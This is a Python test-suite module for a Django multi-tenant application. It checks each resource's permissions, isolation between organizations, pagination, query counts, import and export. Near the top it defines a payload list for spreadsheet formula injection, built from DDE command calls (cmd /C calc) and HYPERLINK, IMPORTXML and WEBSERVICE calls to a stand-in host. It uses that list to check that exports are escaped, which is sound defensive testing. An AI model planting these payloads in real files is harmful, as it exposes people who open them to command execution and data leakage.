"""Test suites to inherit: a feature's resource gets its permissions, isolation, export, empty state, query
count and import tried by saying how its rows are made.

    class TestStores(ResourceSuite):
        resource = STORES

        def make(self, n): …                  # n rows in the organization that is entered
        def browser(self, *permissions): …    # a client signed in as somebody holding exactly these, over
        everyone def outsider(self): …                 # a client signed in to another organization, holding
        everything
"""

import csv
import io
from typing import Any
from uuid import uuid4

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from qince.kit.resource import Resource, opened
from qince.kit.resource.escaping import is_live, unescape
from qince.kit.tenancy import tenant

# What people have put into cells to have it run: every dangerous start × every payload.
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    "''=",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "=\t",
    "==",
    "=+",
    "-+",
)
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"click")',
    "1+1",
    'IMPORTXML("http://x.example/","//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "2+5+cmd|'/C notepad'!A0",
    '1+1";=1+1',
    'WEBSERVICE("http://x.example")',
    'INDIRECT("A1")',
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]


class ResourceSuite:
    resource: Resource

    def make(self, n: int) -> list[Any]:
        raise NotImplementedError

    def browser(self, *permissions: str) -> Any:
        raise NotImplementedError

    def outsider(self) -> Any:
        raise NotImplementedError

    @pytest.fixture(autouse=True)
    def _home(self, organization: Any) -> None:
        self.home = organization

    def made(self, n: int) -> list[Any]:
        with tenant(self.home):
            return self.make(n)

    def signed_in(self, *permissions: str) -> Any:
        with tenant(self.home):
            return self.browser(*permissions)

    # Optional: an import. `table()` gives headings and rows; without it the import tests are skipped.
    def table(self) -> list[list[str]] | None:
        return None

    def everything(self) -> tuple[str, ...]:
        held = self.resource.permissions
        codes = (
            held.view,
            held.add,
            held.edit,
            held.imports,
            held.export,
            *(act.permission for act in self.resource.acts),
        )
        return tuple(dict.fromkeys(code for code in codes if code))

    # Permissions

    def test_a_stranger_is_sent_to_sign_in(self, client: Any) -> None:
        answer = client.get(self.resource.url("list"))
        assert answer.status_code == 302
        assert answer["Location"].startswith("/sign-in/")

    def test_each_page_needs_its_permission(self) -> None:
        row = self.made(1)[0]
        nobody = self.signed_in()
        for url in self._pages(row):
            assert nobody.get(url).status_code == 403, url

    def test_pages_open_to_who_may(self) -> None:
        row = self.made(1)[0]
        somebody = self.signed_in(*self.everything())
        for url in self._pages(row):
            answer = somebody.get(url)
            assert answer.status_code in (200, 302), url
            if "text/html" in answer["Content-Type"]:
                assert "<c-" not in answer.text, f"{url}: a component was not rendered"

    def test_viewing_alone_offers_nothing_else(self) -> None:
        self.made(1)
        text = self.signed_in(self.resource.permissions.view).get(self.resource.url("list")).text
        for page in self._optional():
            assert self.resource.url(page) not in text, page

    def test_an_edit_says_what_it_was_made_on(self) -> None:
        if not self.resource.edit:
            pytest.skip("nothing to edit")
        row = self.made(1)[0]
        page = self.signed_in(*self.everything()).get(self.resource.url("edit", row.pk)).text
        assert f'name="{opened.NAME}"' in page or 'name="version"' in page

    def _pages(self, row: Any) -> list[str]:
        url = self.resource.url
        pages = [url("list"), url("print"), url("detail", row.pk), url("print_one", row.pk)]
        pages += [url(page) for page in self._optional()]
        pages += [url("edit", row.pk)] if self.resource.edit else []
        pages += [url("tab", row.pk, tab.name) for tab in self.resource.all_tabs if not tab.permission]
        return pages + [url("filter", found.name) for found in self.resource.filters]

    def _optional(self) -> list[str]:
        found = ["new"] if self.resource.create else []
        found += ["import", "import_template"] if self.resource.imports else []
        return found + (["export_csv", "export_xlsx"] if self.resource.permissions.export else [])

    # Isolation

    def test_another_organization_sees_nothing(self) -> None:
        row = self.made(1)[0]
        outsider = self.outsider()
        assert self._row_url(row) not in outsider.get(self.resource.url("list")).text
        for url in self._row_pages(row):
            assert outsider.get(url).status_code == 404, url

    def test_an_unknown_row_looks_like_a_hidden_one(self) -> None:
        assert self.signed_in(*self.everything()).get(self.resource.url("detail", uuid4())).status_code == 404

    def test_bulk_acts_pass_over_foreign_rows(self) -> None:
        row = self.made(1)[0]
        outsider = self.outsider()
        for act in self.resource.acts:
            if act.in_bulk:
                posted = {"ids": [str(row.pk)], "confirmed": "1"}
                answer = outsider.post(self.resource.url("bulk", act.name), posted)
                assert answer.status_code == 422, act.name
                assert str(row) not in answer.text

    def _row_url(self, row: Any) -> str:
        return self.resource.url("detail", row.pk)

    def _row_pages(self, row: Any) -> list[str]:
        url = self.resource.url
        pages = [url("detail", row.pk), url("print_one", row.pk)]
        pages += [url("edit", row.pk)] if self.resource.edit else []
        pages += [url("tab", row.pk, tab.name) for tab in self.resource.all_tabs]
        return pages + [url("act", row.pk, act.name) for act in self.resource.acts]

    # The list

    def test_an_empty_list_says_what_to_do(self) -> None:
        browser = self.signed_in(*self.everything())
        text = browser.get(self.resource.url("list"), {"q": "zzz-nothing-is-called-so"}).text
        assert "q-empty" in text

    def test_a_hundred_rows_cost_as_many_queries_as_ten(self) -> None:
        browser = self.signed_in(*self.everything())
        self.made(10)
        browser.get(self.resource.url("list"))
        few = self.queries(browser, self.resource.url("list"))
        self.made(90)
        assert self.queries(browser, self.resource.url("list")) == few

    def queries(self, browser: Any, url: str) -> int:
        """How many statements a page of a hundred rows costs."""
        with CaptureQueriesContext(connection) as captured:
            assert browser.get(url, {"size": "200"}).status_code == 200
        # Counting starts only when there is more than one page: the same statement for ten rows and a hundred
        # is all else.
        return len([query for query in captured if "COUNT(*)" not in query["sql"].upper()])

    def test_every_row_is_met_once_walking_forth_and_back(self) -> None:
        self.made(45)
        browser = self.signed_in(*self.everything())
        forth = self._walk(browser, self.resource.url("list") + "?size=20", "next")
        assert len(set(forth["rows"])) == len(forth["rows"]) >= 45
        back = self._walk(browser, forth["last"], "prev")
        assert set(back["rows"]) == set(forth["rows"])

    def _walk(self, browser: Any, url: str, rel: str) -> dict[str, Any]:
        import html
        import re

        rows: list[str] = []
        for _step in range(20):
            text = browser.get(url).text
            rows += re.findall(
                r'<a href="([^"?]+)">[^<]*</a>', text.split('id="listing"')[1].split("</tbody>")[0]
            )
            link = re.search(rf'rel="{rel}" href="([^"]+)"', text)
            if not link:
                return {"rows": rows, "last": url}
            url = html.unescape(link[1])
        raise AssertionError("the walk does not end")

    # Export

    def test_exports_hold_every_row_and_no_formula(self) -> None:
        if not self.resource.permissions.export:
            pytest.skip("no export")
        rows = self.made(12)
        browser = self.signed_in(*self.everything())
        table = read_csv(browser.get(self.resource.url("export_csv")))
        assert len(table) >= len(rows) + 1
        assert not any(is_live(cell) and not _is_number(cell) for row in table for cell in row)
        book = read_xlsx(browser.get(self.resource.url("export_xlsx")))
        assert len(book) == len(table)

    # Import

    def test_importing_twice_changes_nothing_the_second_time(self) -> None:
        table = self.table()
        if table is None:
            pytest.skip("no import")
        browser = self.signed_in(*self.everything())
        first = self.run_import(browser, table)
        assert first["faulty"] == 0
        assert first["new"] == len(table) - 1
        again = self.preview(browser, table)
        assert again["new"] == again["changed"] == again["faulty"] == 0
        assert again["same"] == len(table) - 1

    def preview(self, browser: Any, table: list[list[str]]) -> dict[str, int]:
        report = self._uploaded(browser, table).context["report"]
        return {kind: report.counts.get(kind, 0) for kind in ("new", "changed", "same", "faulty")}

    def run_import(self, browser: Any, table: list[list[str]]) -> dict[str, int]:
        page = self._uploaded(browser, table)
        url = page.request["PATH_INFO"]
        answer = browser.post(url, {"step": "import", "attested": "1"}, follow=True)
        counts = answer.context["result"]["counts"]
        return {kind: counts.get(kind, 0) for kind in ("new", "changed", "same", "faulty")}

    def _uploaded(self, browser: Any, table: list[list[str]]) -> Any:
        file = SimpleUploadedFile("table.csv", as_csv(table).encode("utf-8-sig"), "text/csv")
        answer = browser.post(self.resource.url("import"), {"file": file}, follow=True)
        assert answer.status_code == 200, answer.text
        return answer


def as_csv(table: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(table)
    return out.getvalue()


def read_csv(answer: Any) -> list[list[str]]:
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx(answer: Any) -> list[list[Any]]:
    """The cells of an exported workbook; fails on a live formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(answer.streaming_content))).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows()]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    return [[cell.value for cell in row] for row in rows]


def plain(cells: list[str]) -> list[str]:
    return [unescape(cell) for cell in cells]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
